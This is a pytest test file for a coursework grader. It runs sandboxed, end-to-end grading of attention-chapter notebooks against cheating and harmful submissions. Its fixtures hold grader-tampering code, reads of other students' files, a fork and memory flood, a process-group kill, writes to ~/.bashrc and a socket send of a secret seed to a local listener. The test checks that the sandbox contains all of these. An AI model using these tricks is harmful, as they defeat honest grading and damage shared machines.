"""Coursework: nbgrader metadata in the notebooks, hidden cases, the library off limits, and
`scripts/coursework.py grade` on one chapter's submissions, end to end."""

import contextlib
import csv
import html
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
import torch
from repo_files import load_module

from vitlib import checks
from vitlib.checks.attention import ATTENTION_SHORTCUTS, SOFTMAX
from vitlib.rollout import patch_distances

ROOT = Path(__file__).resolve().parents[1]


def _load(name):
    return load_module(f"scripts/{name}.py")


coursework = _load("coursework")
student_edition = _load("student_edition")
CHAPTERS = coursework.chapters()


@pytest.mark.parametrize("path", CHAPTERS, ids=[p.stem for p in CHAPTERS])
def test_notebooks_carry_their_nbgrader_metadata(path):
    """`make student` annotates; a notebook edited since fails here."""
    book = nbformat.read(path, as_version=4)
    again = coursework.annotate(nbformat.read(path, as_version=4))
    assert book == again, "run `make student` (scripts/coursework.py annotate)"
    graded = coursework.exercises(book)
    assert graded, "a chapter without graded exercises"
    ids = [
        c.metadata["nbgrader"]["grade_id"]
        for c in book.cells
        if "nbgrader" in c.metadata
    ]
    assert len(ids) == len(set(ids))


def test_the_instructors_table_is_in_sync():
    table = (ROOT / "book" / "coursework_table.md").read_text()
    assert table.endswith(coursework.guide_table(CHAPTERS)), "run `make student`"


def test_annotate_reads_points_and_kinds():
    cells = [
        nbformat.v4.new_markdown_cell(
            "**Exercise 9.2 (find the bug, 3 points).** Fix it."
        ),
        nbformat.v4.new_code_cell(
            "def f():\n    ### BEGIN SOLUTION\n    return 1\n    ### END SOLUTION"
        ),
        nbformat.v4.new_code_cell("checks.check_f(f);"),
        nbformat.v4.new_markdown_cell("**Exercise 9.3 (explain).** Why?"),
        nbformat.v4.new_markdown_cell(
            "```{admonition} Model answer\n:class: dropdown\nBecause.\n```"
        ),
    ]
    book = coursework.annotate(nbformat.v4.new_notebook(cells=cells))
    meta = [c.metadata.get("nbgrader") for c in book.cells]
    assert meta[0] is None
    assert meta[1]["solution"] and not meta[1]["grade"]
    assert meta[2]["grade"] and meta[2]["locked"] and meta[2]["points"] == 3
    assert meta[4]["grade"] and meta[4]["solution"] and meta[4]["points"] == 1
    assert coursework.exercises(book) == [
        ("ex9_2", 3, ["ex9_2"], False),
        ("ex9_3", 1, ["ex9_3"], True),
    ]


def test_a_table_of_public_answers_fails_under_another_seed(monkeypatch, capsys):
    table = {192: 98816, 384: 394240, 768: 2362368, 1024: 2624000}
    monkeypatch.setenv("VITLIB_STRICT_CHECKS", "0")
    assert checks.check_attention_parameters(lambda dim, heads, kv: table[dim])
    monkeypatch.setenv("VITLIB_CHECK_SEED", "7")
    assert not checks.check_attention_parameters(lambda dim, heads, kv: table[dim])
    assert checks.check_attention_parameters(
        lambda dim, heads, kv: 2 * (dim + 1) * dim + 2 * (dim + 1) * (dim // heads * kv)
    )
    assert "KeyError" in capsys.readouterr().out


def test_seeded_inputs_change_with_the_seed(monkeypatch):
    first = torch.randn(3, generator=checks.case_generator())
    monkeypatch.setenv("VITLIB_CHECK_SEED", "11")
    assert not torch.equal(first, torch.randn(3, generator=checks.case_generator()))
    monkeypatch.setenv("VITLIB_CHECK_SEED", "eleven")
    with pytest.raises(ValueError, match="VITLIB_CHECK_SEED"):
        checks.case_seed()


def test_forbidden_functions_raise_only_inside_and_everywhere(monkeypatch, capsys):
    import torch.nn.functional as F

    from vitlib.attention import attend

    monkeypatch.setenv("VITLIB_STRICT_CHECKS", "0")
    q = torch.randn(1, 4, 8)
    before = (F.softmax, torch.softmax, torch.Tensor.softmax, attend)

    def calls_attend(q, k, v):
        return attend(q, k, v)[0]

    with checks.forbidden(
        calls_attend, "vitlib.attention.attend", "torch.Tensor.softmax"
    ):
        with pytest.raises(checks.WriteItYourself):
            calls_attend(q, q, q)
        with pytest.raises(checks.WriteItYourself):
            q.softmax(-1)
    assert (F.softmax, torch.softmax, torch.Tensor.softmax, attend) == before
    assert torch.allclose(q.softmax(-1).sum(-1), torch.ones(1, 4))

    def with_sdpa(q, k, v, mask):
        return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)

    assert not checks.check_masked_attention(with_sdpa)
    assert "write this one yourself" in capsys.readouterr().out

    # a check that wraps the student's function still reaches the student's own names
    def share_with_the_library(weights, grid, patch_size, radius):
        near = patch_distances(grid, patch_size) <= radius
        return (weights.double() * near).sum(-1).mean()

    assert not checks.check_local_share(share_with_the_library)
    assert "without vitlib.rollout.patch_distances" in capsys.readouterr().out


def test_predictions_compare_shapes_and_numbers(monkeypatch, capsys):
    monkeypatch.setenv("VITLIB_STRICT_CHECKS", "0")
    assert checks.compare_prediction("p", lambda: [2, 3], torch.Size([2, 3]))
    assert not checks.compare_prediction("p", lambda: (577, 1), (577, 2))


# --- grading chapter 3 end to end: cheats, harms and mistakes, in one run ---

CHAPTER = ROOT / "notebooks" / "03_attention.ipynb"
ZEROS = "def share_kv(kv, groups):\n    return torch.zeros_like(kv)"  # a wrong answer


def right_answers() -> dict:
    book = nbformat.read(CHAPTER, as_version=4)
    return {
        c.metadata["nbgrader"]["grade_id"]: c.source
        for c in book.cells
        if c.metadata.get("nbgrader", {}).get("solution")
    }


def submission(answers: dict, changes: dict = None) -> nbformat.NotebookNode:
    """The student edition with the answer cells in `answers`, then `changes`, filled in."""
    notebook = student_edition.student_notebook(CHAPTER)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in (changes or {}):
            cell.source = changes[grade_id]
        elif grade_id in answers:
            cell.source = answers[grade_id]
    return notebook


RIGHT = right_answers()
CHEATS = {  # student: answer cells changed; every changed exercise has a wrong answer
    # the checks' own switches, and the functions they compare with, patched in the kernel
    "eve": {
        "ex3_1-answer": "import os\nos.environ['VITLIB_STRICT_CHECKS'] = '0'\n"
        "os.environ['VITLIB_CHECK_SEED'] = '0'\n"
        "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
        + RIGHT["ex3_1-answer"],
        "ex3_3-answer": ZEROS,
    },
    # a table of the public answers, keyed by the seed the student cannot see
    "fox": {
        "ex3_5-answer": "import os\nTABLE = {0: {192: 98816, 384: 394240}}\n"
        "def attention_parameters(dim, heads, kv_heads):\n"
        "    return TABLE[int(os.environ.get('VITLIB_CHECK_SEED', '0'))][dim]",
    },
    # the verdict, the checks and the shell's input, patched
    "fay": {
        "ex3_3-answer": "import vitlib.checks\nvitlib.checks.verdict = lambda *a, **k: True\n"
        "checks.compare = lambda *a, **k: (True, '', '')\n"
        "setattr(checks, 'check_share_kv', lambda fn: True)\n"
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: [l for l in lines if 'checks.' not in l])\n" + ZEROS,
    },
    # the library captured before the check could switch it off
    "dee": {
        "ex3_1-answer": "def masked_attention(q, k, v, mask, _f=F.scaled_dot_product_attention):\n"
        "    return _f(q, k, v, attn_mask=mask)",
        "ex3_2-answer": "import functools\nattend = functools.partial(getattr(F, 'scaled_dot_' + 'product_attention'))\n"
        "def fixed_padded_attention(q, k, v, lengths, left=False):\n"
        "    real = torch.arange(k.shape[-2]) < lengths[:, None]\n"
        "    return attend(q, k, v, attn_mask=real[:, None, None, :])",
    },
    # another student's answers, read from the submissions folder and the grades
    "ivy": {
        "ex3_1-answer": "import glob, json\n"
        "for path in glob.glob('{others}/*/*.ipynb') + glob.glob('{grades}/*')\\\n"
        "        + glob.glob('{root}/notebooks/*.ipynb') + glob.glob('{root}/_build/**', recursive=True):\n"
        "    try:\n        cells = json.load(open(path))['cells']\n    except (OSError, ValueError):\n"
        "        continue\n"
        "    for cell in cells:\n"
        "        if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'ex3_1-answer':\n"
        "            with open('/tmp/stolen.py', 'w') as f:\n"
        "                f.write('import math, torch\\n' + ''.join(cell['source']))\n"
        "import sys\nsys.path.insert(0, '/tmp')\ntry:\n    from stolen import masked_attention\n"
        "except ImportError:\n    pass",
    },
    # the graded function defined in another exercise's answer cell, with a captured einops
    "jay": {
        "ex3_2-answer": RIGHT["ex3_2-answer"] + "\n\n\nimport einops\n\n\n"
        "def share_kv(kv, groups, _r=torch.repeat_interleave):\n"
        "    return _r(kv, groups, dim=1)",
        "ex3_3-answer": "pass",
    },
    # a forged answer on the worker's channel, then a worker that stops reading
    "kim": {
        "ex3_3-answer": "import signal, sys, time, wire\n"
        "def share_kv(kv, groups):\n"
        "    b, h, n, d = kv.shape\n"
        "    out = kv[:, :, None].expand(b, h, groups, n, d).reshape(b, h * groups, n, d)\n"
        "    wire.write_frame(int(sys.argv[2]), wire.dumps({'value': wire.encode(out)}))\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    while True:\n        time.sleep(3600)",
    },
    # answers that once stopped the whole run, or passed in half precision
    "abe": {
        "ex3_4-answer": "import numpy as np\n"
        "def predicted_at_448():\n    return 785, np.full(1, 1e9, dtype=np.float16)",
        "ex3_5-answer": "def attention_parameters(dim, heads, kv_heads):\n"
        "    return torch.tensor([3 * dim * dim + 3 * dim, dim * dim + dim])",
        "ex3_3-answer": "def share_kv(kv, groups):\n    return torch.tensor(1.0, dtype=torch.float16)",
    },
    # a forged answer that is not an object: once it stopped grading for everyone after
    "ned": {
        "ex3_5-answer": "import os, struct, sys\n"
        "os.write(int(sys.argv[2]), struct.pack('>I', 4) + b'null')\n"
        + RIGHT["ex3_5-answer"],
    },
    # an IPython magic in front of a captured library function
    "max": {
        "ex3_1-answer": "%xmode Plain\n"
        "def masked_attention(q, k, v, mask, _f=F.scaled_dot_product_attention):\n"
        "    return _f(q, k, v, attn_mask=mask)",
    },
    "gus": {
        "ex3_1-answer": "def masked_attention(q, k, v, mask):\n"
        "    scores = (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(~mask, float('-inf'))\n"
        "    return scores.log_softmax(dim=-1).exp() @ v",
    },
}
MISTAKE = {  # the padding mask along the queries: rows and columns of the scores mixed up
    "ex3_2-answer": "def fixed_padded_attention(q, k, v, lengths, left=False):\n"
    "    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])\n"
    "    real = torch.arange(q.shape[-2]) < lengths[:, None]\n"
    "    scores = scores.masked_fill(~real[:, None, :, None], -1e9)\n"
    "    return scores.softmax(dim=-1) @ v",
}
# honest habits of Jupyter and Colab, around right answers: none of them costs a point
HABITS = {
    "ex3_1-answer": "%load_ext autoreload\n%autoreload 2\n%pip install -q einops\n"
    "torch.randn?\n" + RIGHT["ex3_1-answer"],
    "ex3_2-answer": '#@title Exercise 3.2 { display-mode: "form" }\n'
    'heads = 4  #@param {type:"integer"}\n'
    'import sys\nif "google.colab" in sys.modules:\n'
    "    !pip install einops\n    from google.colab import files\n"
    "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\n"
    + RIGHT["ex3_2-answer"],
    "ex3_3-answer": "%%capture\n" + RIGHT["ex3_3-answer"],
    "ex3_5-answer": "%time x = 1\n"
    + RIGHT["ex3_5-answer"]
    + "\n%timeit -n 1 -r 1 1 + 1",
}
# right on every hidden case but the first: partial credit, the share of cases right
FIRST_WRONG = (
    "CALLS = []\n\n\ndef share_kv(kv, groups):\n    CALLS.append(1)\n"
    "    b, h, n, d = kv.shape\n"
    "    out = kv[:, :, None].expand(b, h, groups, n, d).reshape(b, h * groups, n, d)\n"
    "    return out * 0 if len(CALLS) == 1 else out"
)
# the grader's own answers, imported from vitlib.checks instead of written
COPIES = {
    "ex3_2-answer": "from vitlib.checks.attention import _padded_attention as fixed_padded_attention",
    "ex3_3-answer": "import vitlib\n\n\ndef share_kv(kv, groups):\n"
    "    return vitlib.checks.attention._share_kv(kv, groups)",
}
# the grader's own answer, read from the checks' file and run: no import for a rule to see
READS = {
    "ex3_2-answer": "import pathlib, sys, vitlib\n"
    "text = (pathlib.Path(vitlib.__file__).parent / 'checks' / 'attention.py').read_text()\n"
    "start = text.find('def _padded_attention(')\n"
    "pathlib.Path('/tmp/mine').mkdir(exist_ok=True)\n"
    "body = text[start : text.find('\\n\\n\\n', start)] if start >= 0 else ''\n"
    "pathlib.Path('/tmp/mine/mine.py').write_text('import math, torch\\n' + body)\n"
    "sys.path.insert(0, '/tmp/mine')\n"
    "from mine import _padded_attention as fixed_padded_attention",
}
MEMFD = (
    "import os\nchunk = bytes(2**24)\nfiles = []\nfor _ in range(6 * 64):\n"
    "    fd = os.memfd_create('x')\n    os.write(fd, chunk)\n    files.append(fd)\n"
)
HARMS = {  # one submission that tries each harm, an exercise at a time
    "ex3_1-answer": "big = torch.ones(5 * 2**30, dtype=torch.uint8)  # 5 GiB\n"
    + RIGHT["ex3_1-answer"],
    "ex3_2-answer": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    # 200 MB of output, then 50 forks, eight of them touching 1 GiB of shared memory each
    "ex3_3-answer": "import mmap, os, time\nprint('x' * (200 * 2**20))\n"
    "for i in range(50):\n    if os.fork() == 0:\n        if i < 8:\n"
    "            m = mmap.mmap(-1, 2**30)\n"
    "            for start in range(0, 2**30, 2**24):\n"
    "                m[start : start + 2**24] = bytes(2**24)\n"
    "        time.sleep(600)\n        os._exit(0)\n"
    "time.sleep(30)\n" + RIGHT["ex3_3-answer"],
    "ex3_4-answer": "import os, signal\nos.killpg(0, signal.SIGKILL)",
    "ex3_5-answer": "import glob, pathlib, socket, os\nSEEN = []\n"
    "for path in [*glob.glob('{others}/*/*'), *glob.glob('{root}/_build/*/*'),\n"
    "             '{root}/vitlib/checks/__init__.py', '{root}/notebooks/new.txt', os.path.expanduser('~/.bashrc')]:\n"
    "    try:\n        SEEN.append(open(path).read()[:10])\n        open(path, 'a').write('#')\n"
    "    except OSError:\n        pass\n"
    "try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(os.environ.get('VITLIB_CHECK_SEED', 'none').encode())\n"
    "except OSError:\n    pass\n" + RIGHT["ex3_5-answer"],
}


def _place(answer: str, others, grades) -> str:
    for key, value in [("others", others), ("grades", grades), ("root", ROOT)]:
        answer = answer.replace("{" + key + "}", str(value))
    return answer


def _grade(folder, out, *extra):
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "coursework.py"), "grade", str(folder),
         "--out", str(out), "--seed", "12345", "--cell-timeout", "10", *extra],
        capture_output=True, text=True, cwd=ROOT,
    )  # fmt: skip


def _rows(out):
    with open(out / "grades.csv") as f:
        return {(r["student"], r["exercise"]): r for r in csv.DictReader(f)}


def _tree_state(*folders) -> dict:
    return {
        p: (p.stat().st_mtime_ns, p.stat().st_size)
        for folder in folders
        for p in sorted(Path(folder).rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    import socket
    import threading

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    heard = []
    threading.Thread(
        target=lambda: heard.append(listener.accept()), daemon=True
    ).start()
    port = listener.getsockname()[1]
    folder = tmp_path_factory.mktemp("submissions")
    out = tmp_path_factory.mktemp("grades") / "grades"
    harms = {k: v.format(root=ROOT, port=port, others=folder) for k, v in HARMS.items()}
    students = {
        "ada": submission(RIGHT),  # every answer right
        "zoe": submission(RIGHT),  # graded last: the run went on to the end
        "ben": submission({}),  # the student edition, untouched
        "cy": submission(RIGHT, MISTAKE),
        "harm": submission(RIGHT, harms),
        # memory in files that live only in memory (memfd): in no process's resident set
        "harm2": submission(RIGHT, {"ex3_1-answer": MEMFD + RIGHT["ex3_1-answer"]}),
        **{
            name: submission(
                RIGHT,
                {k: _place(v, folder, out) for k, v in changes.items()},
            )
            for name, changes in CHEATS.items()
        },
    }
    students["cole"] = colab_download(submission(RIGHT, HABITS))
    students["copy"] = submission(RIGHT, COPIES)
    students["reader"] = submission(RIGHT, READS)
    students["half"] = submission(RIGHT, {"ex3_3-answer": FIRST_WRONG})
    students["twice"] = answered_twice(submission(RIGHT), "ex3_2-answer", ZEROS_32)
    students["reference-03_attention.txt"] = submission(RIGHT)  # once a log's name
    for name, notebook in students.items():
        (folder / name).mkdir()
        nbformat.write(notebook, folder / name / CHAPTER.name)
    (folder / "cole" / CHAPTER.name).rename(folder / "cole" / f"Copy of {CHAPTER.name}")
    # a folder named like a notebook, a linked student folder, a stray file
    (folder / "dana" / CHAPTER.name).mkdir(parents=True)
    (folder / "link").symlink_to(folder / "ada")
    (folder / "stray.txt").write_text("beside the students' folders")
    # a browser's second download of the same file, and a file that is no chapter
    (folder / "hal").mkdir()
    nbformat.write(submission(RIGHT), folder / "hal" / "Copy of 03_attention (1).ipynb")
    (folder / "hal" / "notes.txt").write_text("not a notebook")
    (folder / "sym").mkdir()  # a link to the book's own notebook, solutions and all
    (folder / "sym" / CHAPTER.name).symlink_to(CHAPTER)
    (out / "feedback").mkdir(parents=True)
    (out / "grades.csv").write_text("the previous run's grades\n")
    before = _tree_state(ROOT / "vitlib", ROOT / "notebooks", folder)
    result = _grade(folder, out)
    after = _tree_state(ROOT / "vitlib", ROOT / "notebooks", folder)
    listener.close()
    assert result.returncode == 0, result.stdout + result.stderr
    alone = tmp_path_factory.mktemp("alone")
    (alone / "ada").mkdir()
    nbformat.write(students["ada"], alone / "ada" / CHAPTER.name)
    alone_out = tmp_path_factory.mktemp("grades") / "alone"
    by_herself = _grade(alone, alone_out)
    assert by_herself.returncode == 0, by_herself.stderr
    return {
        "out": out,
        "rows": _rows(out),
        "alone": _rows(alone_out),
        "changed": {str(p) for p in set(before) ^ set(after)}
        | {str(p) for p in before if p in after and before[p] != after[p]},
        "heard": heard,
        "hand": folder.parent / "hand_grades.csv",
    }


FULL = {"3.1": 2, "3.2": 2, "3.3": 2, "3.4": 1, "3.5": 1}
ZEROS_32 = "def fixed_padded_attention(q, k, v, lengths, left=False):\n    return torch.zeros_like(q)"


def colab_download(notebook):
    """The notebook as Colab downloads it: its own metadata, cell ids, counts out of order."""
    notebook.metadata["colab"] = {
        "provenance": [],
        "name": "Copy of 03_attention.ipynb",
    }
    notebook.metadata["accelerator"] = "GPU"
    for n, cell in enumerate(notebook.cells):
        cell.metadata["id"] = f"c{n:04x}"
        if cell.cell_type == "code":
            cell.execution_count = (7 * n) % 23 + 1
    return notebook


def answered_twice(notebook, grade_id, first):
    """A copy of the answer cell put above it, holding `first`: run from top to bottom, the
    later one is in force."""
    at = next(
        i for i, c in enumerate(notebook.cells)
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )  # fmt: skip
    copy = nbformat.from_dict(json.loads(json.dumps(notebook.cells[at])))
    copy.source, copy.id = first, f"{copy.id}-copy"
    notebook.cells.insert(at, copy)
    return notebook


def scores(rows, student):
    return {
        e: float(r["score"])
        for (s, e), r in rows.items()
        if s == student and r["score"] and e
    }


@pytest.mark.sandbox
def test_right_answers_score_full_marks_and_untouched_ones_zero(graded):
    rows, out = graded["rows"], graded["out"]
    assert scores(rows, "ada") == FULL
    assert rows["ada", "3.6"]["status"] == "needs manual grading"
    assert set(scores(rows, "ben").values()) == {0}
    assert "nothing yet" in (out / "feedback" / "ben" / "03_attention.html").read_text()
    assert (out / "seed.txt").read_text().strip() == "12345"
    # the gradebook: a row per student; the written answer listed for the instructor
    book = {r["student"]: r for r in book_of_grades.read_rows(out / "gradebook.csv")}
    assert book["ada"]["03_attention"] == "8" and book["ben"]["03_attention"] == "0"
    assert book["ada"]["possible"] == str(8 + int(rows["ada", "3.6"]["max_score"]))
    hand = book_of_grades.read_rows(graded["hand"])
    assert {"student": "ada", "exercise": "3.6", "score": ""}.items() <= next(
        r for r in hand if r["student"] == "ada"
    ).items()
    assert "previous run" not in (out / "grades.csv").read_text()


@pytest.mark.sandbox
def test_cheats_score_zero_on_what_they_cheat(graded):
    rows = graded["rows"]
    # environment flags and a patched allclose/equal: flagged, and zero from there on
    assert set(scores(rows, "eve").values()) == {0}
    assert rows["eve", "3.1"]["status"] == "tampering"
    # a table keyed by the seed: the seed is not in the worker, and wrong stays wrong
    assert scores(rows, "fox") == {**FULL, "3.5": 0}
    # a patched verdict, compare, check function or input transformer: flagged, and zero
    assert scores(rows, "fay") == {**FULL, "3.3": 0, "3.4": 0, "3.5": 0}
    assert rows["fay", "3.3"]["status"] == "tampering"
    # the library captured in a default argument, a partial, a getattr string, log_softmax
    assert scores(rows, "dee") == {**FULL, "3.1": 0, "3.2": 0}
    assert scores(rows, "gus") == {**FULL, "3.1": 0}
    # the other submissions, the grades and the book's solutions are out of sight
    assert scores(rows, "ivy") == {**FULL, "3.1": 0}
    assert scores(rows, "jay") == {**FULL, "3.3": 0}
    assert rows["jay", "3.3"]["status"] == "library used"
    assert scores(rows, "kim") == {**FULL, "3.3": 0}
    assert "stopped" in rows["kim", "3.3"]["status"]
    assert scores(rows, "abe") == {**FULL, "3.3": 0, "3.4": 0, "3.5": 0}
    assert scores(rows, "max") == {**FULL, "3.1": 0}
    assert scores(rows, "ned") == {**FULL, "3.5": 0}
    assert scores(rows, "zoe") == FULL
    for student, exercise in [("dee", "3.1"), ("dee", "3.2"), ("gus", "3.1")]:
        assert rows[student, exercise]["status"] == "library used"
    page = (graded["out"] / "feedback" / "dee" / "03_attention.html").read_text()
    assert "scaled_dot_product_attention" in page and "log_softmax" not in page
    assert (
        "log_softmax"
        in (graded["out"] / "feedback" / "gus" / "03_attention.html").read_text()
    )


@pytest.mark.sandbox
def test_honest_habits_score_full_marks_and_installs_are_noted(graded):
    rows, out = graded["rows"], graded["out"]
    assert scores(rows, "cole") == FULL
    page = (out / "feedback" / "cole" / "03_attention.html").read_text()
    assert "`%pip install -q einops` was not run: grading installs nothing" in page
    assert "einops is there" in page


@pytest.mark.sandbox
def test_partial_credit_is_the_share_of_hidden_cases_right(graded):
    rows = graded["rows"]
    assert (
        0 < scores(rows, "half")["3.3"] < 2
        and rows["half", "3.3"]["status"] == "graded"
    )
    page = (graded["out"] / "feedback" / "half" / "03_attention.html").read_text()
    right, cases = re.search(
        r"share the key/value heads, (\d+) of (\d+) cases right", page
    ).groups()
    assert int(right) == int(cases) - 1
    assert scores(rows, "half")["3.3"] == round(2 * int(right) / int(cases), 2)


def test_a_score_is_all_or_the_share_of_cases_right():
    assert grader._score(2, True, [(1, 4)]) == 2
    assert grader._score(2, False, [(3, 4)]) == 1.5
    assert grader._score(1, False, [(1, 3), (1, 3)]) == 0.33  # two checks in one cell
    assert grader._score(2, False, []) == 0  # a check that counts no cases


@pytest.mark.sandbox
def test_the_graders_own_answers_cannot_be_copied(graded):
    rows = graded["rows"]
    assert scores(rows, "copy") == {**FULL, "3.2": 0, "3.3": 0}
    for exercise in ("3.2", "3.3"):
        assert rows["copy", exercise]["status"] == "reference copied"
    page = (graded["out"] / "feedback" / "copy" / "03_attention.html").read_text()
    assert "from vitlib.checks.attention import _padded_attention" in page


@pytest.mark.sandbox
def test_the_graders_own_answers_are_not_in_the_sandbox(graded):
    # the sandbox's vitlib.checks has the check names and helpers, not what they compare with
    rows = graded["rows"]
    assert scores(rows, "reader") == {**FULL, "3.2": 0}
    page = (graded["out"] / "feedback" / "reader" / "03_attention.html").read_text()
    message = "name 'fixed_padded_attention' is not defined"  # its import found nothing
    assert message in html.unescape(page)


@pytest.mark.sandbox
def test_an_exercise_answered_twice_is_graded_on_the_later_cell(graded):
    assert scores(graded["rows"], "twice") == FULL
    page = (graded["out"] / "feedback" / "twice" / "03_attention.html").read_text()
    assert "Exercise 3.2 is answered in 2 cells: the last of them is graded" in page


@pytest.mark.sandbox
def test_no_name_in_the_submissions_stops_the_run(graded):
    rows = graded["rows"]
    assert scores(rows, "reference-03_attention.txt") == FULL
    assert scores(rows, "zoe") == FULL  # graded after them all
    assert "a folder, not a notebook file" in rows["dana", ""]["status"]
    assert rows["dana", ""]["notebook"] == CHAPTER.name
    assert "symbolic link" in rows["link", ""]["status"] and not scores(rows, "link")
    assert "beside the students' folders" in rows["stray.txt", ""]["status"]


@pytest.mark.sandbox
def test_a_known_misconception_is_named(graded):
    rows = graded["rows"]
    assert scores(rows, "cy") == {**FULL, "3.2": 0}
    assert "the padding mask along the queries" in rows["cy", "3.2"]["feedback"]
    assert "chapter 3, One head" in rows["cy", "3.2"]["feedback"]
    page = (graded["out"] / "feedback" / "cy" / "03_attention.html").read_text()
    assert "mistake:" in page


@pytest.mark.sandbox
def test_harms_are_contained_and_cost_only_their_cells(graded):
    rows, out = graded["rows"], graded["out"]
    assert scores(rows, "harm") == {**FULL, "3.1": 0, "3.2": 0, "3.3": 0, "3.4": 0}
    assert "memory limit" in rows["harm", "3.1"]["status"]
    assert "ignored the interrupt" in rows["harm", "3.2"]["status"]
    assert "memory limit" in rows["harm", "3.3"]["status"]  # shared pages counted
    assert "crash" in rows["harm", "3.4"]["status"]
    assert scores(rows, "harm2") == {**FULL, "3.1": 0}
    assert "memory limit" in rows["harm2", "3.1"]["status"]
    log = (out / "logs" / "students" / "harm" / "03_attention.txt").stat().st_size
    assert log < 12 * 2**20, "the 200 MB of output were kept"
    assert not graded["heard"], "a submission reached a listener on 127.0.0.1"
    assert not graded["changed"], (
        f"files outside the submission changed: {graded['changed']}"
    )
    workers = [
        p for p in Path("/proc").iterdir()
        if p.name.isdigit() and b"grading/worker.py" in _read(p / "cmdline")
    ]  # fmt: skip
    assert not workers, "a submission's processes outlived the run"


def _read(path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


@pytest.mark.sandbox
def test_other_students_grades_are_as_when_graded_alone(graded):
    ada = {
        k[1]: (r["score"], r["status"])
        for k, r in graded["rows"].items()
        if k[0] == "ada"
    }
    alone = {
        k[1]: (r["score"], r["status"])
        for k, r in graded["alone"].items()
        if k[0] == "ada"
    }
    assert ada == alone


@pytest.mark.sandbox
def test_renamed_downloads_are_graded_and_other_files_reported(graded):
    rows = graded["rows"]
    assert scores(rows, "hal") == FULL
    assert "not a chapter" in rows["hal", ""]["status"]
    assert "symbolic link" in rows["sym", ""]["status"]
    assert not scores(rows, "sym")


def test_without_a_sandbox_grading_refuses_unless_unsafe(tmp_path):
    env = dict(os.environ, PATH="/nonexistent")  # no bwrap on the PATH
    command = [
        sys.executable,
        str(ROOT / "scripts" / "coursework.py"),
        "grade",
        str(tmp_path),
    ]
    refused = subprocess.run(command, capture_output=True, text=True, env=env, cwd=ROOT)
    assert refused.returncode != 0 and "--unsafe" in refused.stderr
    assert "bubblewrap" in refused.stderr


# --- the library-off rule read from the source ---

sys.path.insert(0, str(ROOT / "scripts" / "grading"))
import grade as grader  # noqa: E402
import source as source_rules  # noqa: E402


class _Recorder:
    """A stand-in for a student function: it records what the check forbids, then stops."""

    def __init__(self):
        self.names = set()

    def __call__(self, *args):
        raise NotImplementedError

    def through(self, helper, *args):
        raise NotImplementedError

    @contextlib.contextmanager
    def forbidding(self, names):
        self.names |= set(names)
        yield


def _forbidden_lists():
    """(chapter, exercise, forbidden names, its answer cells, the other answer cells)."""
    found = []
    for path in CHAPTERS:
        cells = grader.plan(path)
        answers = {c.grade_id: c.source for c in cells if c.kind == "answer"}
        for cell in cells:
            if cell.kind != "grade":
                continue
            name, args = grader.check_call(cell)
            if name == "compare_prediction":
                continue
            recorders = [_Recorder() for _ in args]
            with contextlib.redirect_stdout(io.StringIO()):
                getattr(checks, name)(*recorders)
            names = set().union(*(r.names for r in recorders))
            own = [s for g, s in answers.items() if g.split("-")[0] == cell.exercise]
            others = [s for s in answers.values() if s not in own]
            found.append((path.stem, cell.exercise, names, own, others))
    return found


def test_the_books_own_solutions_pass_the_source_rule(monkeypatch):
    monkeypatch.setenv("VITLIB_STRICT_CHECKS", "0")
    lists = _forbidden_lists()
    # a guard against an empty list: most transfer exercises forbid nothing
    assert sum(bool(names) for _, _, names, _, _ in lists) >= 15
    for chapter, exercise, names, own, others in lists:
        found = source_rules.violations(source_rules.reached(own, others), names)
        assert not found, (chapter, exercise, found)


CAPTURES = [  # ways to keep a forbidden function, each caught by name
    "def f(q, k, v, _f=F.scaled_dot_product_attention):\n    return _f(q, k, v)",
    "import functools\nf = functools.partial(F.scaled_dot_product_attention)",
    "from torch.nn.functional import scaled_dot_product_attention as s\nf = s",
    "f = torch._C._nn.scaled_dot_product_attention",
    "f = torch.ops.aten._scaled_dot_product_flash_attention_for_cpu",
    "f = getattr(F, 'scaled_dot_' + name)",
    "f = eval('F.sdpa')",
    "import pickle, base64\nf = pickle.loads(base64.b64decode(blob))",
    "f = inspect.getattr_static(F, name)",
    "%xmode Plain\ndef f(q, k, v, _f=F.scaled_dot_product_attention):\n    return _f(q, k, v)",
    "def f(s):\n    return torch.ops.aten._safe_softmax(s, -1)",
    "def f(s):\n    return torch._C._special.special_softmax(s, -1, None)",
    "f = torch.nn.Softmax(-1)",
    "match F:\n    case object(scaled_dot_product_attention=sdpa):\n        pass",
    "import inspect\nf = dict(inspect.getmembers(F))['scaled_dot_' + 'product_attention']",
    "import sys as s\nf = s.modules['torch.nn.functional']",
    "def f(q, k, v):\n    return flex_attention(q, k, v)",
    # second review: magics that run code, rebinding under the same name, lookups by data
    "%%capture\ndef f(q, k, v, _f=getattr(F, 'scal' + 'ed_dot_product_attention')):\n"
    "    return _f(q, k, v)",
    "%time f = F.scaled_dot_product_attention",
    "def masked_attention(q, k, v, mask, attend=attend):\n    return attend(q, k, v)[0]",
    "from torch.nn.functional import *\n"
    "def f(q, k, v, scaled_dot_product_attention=scaled_dot_product_attention):\n"
    "    return scaled_dot_product_attention(q, k, v)",
    "import pkgutil\nf = pkgutil.resolve_name('torch.special:soft' + 'max')",
    "import string\nf = string.Formatter().get_field('0.scal' + 'ed_dot_product_attention', [F], {})[0]",
    "f = F.__dict__[f'scaled_dot_product_attention']",
    "!echo 'from torch.nn.functional import scaled_dot_product_attention as s' > /tmp/m.py\n"
    "from m import s",
    "def f(x):\n    return x.log_softmax(-1).exp()",
]


